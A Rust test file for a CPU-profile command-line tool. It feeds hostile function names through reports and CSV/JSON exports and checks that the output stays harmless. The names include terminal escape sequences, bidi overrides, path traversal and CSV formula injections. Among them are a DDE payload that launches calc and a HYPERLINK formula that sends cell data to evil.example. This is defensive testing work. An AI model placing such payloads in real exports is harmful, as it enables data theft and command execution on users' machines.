//! Names that attack what shows them: terminals, spreadsheets, other readers.

use crate::program::{Scratch, is_harmless, profile_of, run_on};

const NAMES: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\",\"=1+1\",\"b",
    "a\n=1+1,\"x\"",
    "\u{ff1d}1+1",
    "  =1+1",
    "\u{feff}=1+1",
    ";=1+1",
    "a;b\t=1",
    "%0A=1+1|x",
    "%s%n{}{0}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "CON:aux|<>?*",
    "     ",
    "a\0b",
    "\u{1b}[2J\u{1b}]0;owned\u{7}red",
    "a\nb\r\nc\u{b}d\u{c}e",
    "a\u{9b}31mb\u{85}c",
    "safe\u{202e}gnp.exe",
    "\u{2066}isolated\u{2069}",
    "a\u{2028}b\u{2029}c",
    "a\u{200b}b\u{200d}c\u{feff}d",
    "a\u{ffff}\u{fffe}b",
    "\u{645}\u{631}\u{62d}\u{628}\u{627} abc",
    "\u{1f469}\u{200d}\u{1f467} \u{1f1e9}\u{1f1ea}",
    "\u{e0001}\u{e0041}tag",
    "日本語のとても長い関数の名前がここにあるので切られる必要があります、本当にとても長いのです",
];

/// A profile with all names in all places.
fn scratch() -> Scratch {
    let samples: Vec<(Vec<&str>, usize)> =
        NAMES.iter().enumerate().map(|(i, &name)| (vec!["main", name, name], i + 1)).collect();
    let text = profile_of(&samples);
    let urls = text.replace("/app/main.js", "/app/\\u001b[2J\\u202e\\u009b=x,;.js");
    Scratch::new("hostile.cpuprofile", urls)
}

#[test]
fn no_report_lets_a_name_reach_the_terminal() {
    let scratch = scratch();
    for line in [
        "check",
        "summary",
        "functions --top 100",
        "functions --group url",
        "tree --top 200",
        "tree --invert --top 200",
        "hot --min 0 --top 100",
        "tables",
        "check --json",
        "summary --json",
        "functions --json --top 100",
        "tree --json --top 200",
        "hot --json --min 0 --top 100",
        "export --table functions --format json",
        "export --table samples --format json",
        "export --table hot-paths --format json",
    ] {
        let out = run_on(line, &scratch.file).fine();
        assert!(is_harmless(&out), "{line}:\n{out:?}");
    }
    for (option, name) in [("--thread", "\u{1b}[2J"), ("--focus", "\u{202e}x"), ("--hide", "\0x")] {
        if !name.contains('\0') {
            let error = run_on(&format!("functions {option} {name}"), &scratch.file).error();
            assert!(is_harmless(&error), "{error:?}");
        }
    }
}

#[test]
fn no_line_is_wider_than_a_piped_report() {
    let scratch = scratch();
    for line in ["functions --top 100", "tree --top 200", "hot --min 0 --top 100"] {
        let out = run_on(line, &scratch.file).fine();
        for (number, text) in out.lines().enumerate().skip(1) {
            let width = unicode_width::UnicodeWidthStr::width(text);
            assert!(width <= 100, "{line}, line {number}, {width} wide: {text}");
        }
    }
}

#[test]
fn json_holds_names_as_they_are() {
    let report = run_on("functions --json --top 100", &scratch().file).json();
    let found: Vec<&str> = report["functions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| it["function"].as_str().unwrap())
        .collect();
    for name in NAMES {
        assert!(found.contains(name), "{name:?} in {found:?}");
    }
}

#[test]
fn csv_holds_names_and_no_formula() {
    let scratch = scratch();
    let csv = run_on("export --table functions", &scratch.file).fine();
    let rows: Vec<csv::StringRecord> =
        csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), NAMES.len() + 1);
    for row in &rows {
        assert_eq!(row.len(), 8);
        for cell in row {
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '\u{ff1d}']), "{cell:?}");
            assert!(!cell.contains(|c: char| c.is_control() && !"\t\r\n".contains(c)), "{cell:?}");
        }
    }
    let raw = run_on("export --table functions --raw", &scratch.file).fine();
    let raw: Vec<String> = csv::Reader::from_reader(raw.as_bytes())
        .records()
        .map(|it| it.unwrap()[0].to_owned())
        .collect();
    for name in
        NAMES.iter().filter(|it| !it.contains(|c: char| c.is_control() && !"\t\r\n".contains(c)))
    {
        assert!(raw.iter().any(|it| it == name), "{name:?}");
    }
}

#[test]
fn functions_are_found_by_any_name() {
    let scratch = scratch();
    for name in NAMES.iter().filter(|it| !it.contains(['\0'])) {
        let mut command = crate::program::program();
        command.args(["tree", "--json", &format!("--focus={name}")]).arg(&scratch.file);
        let report = crate::program::Run::from(command.output().unwrap()).json();
        assert_eq!(report["nodes"][0]["function"], *name);
    }
}
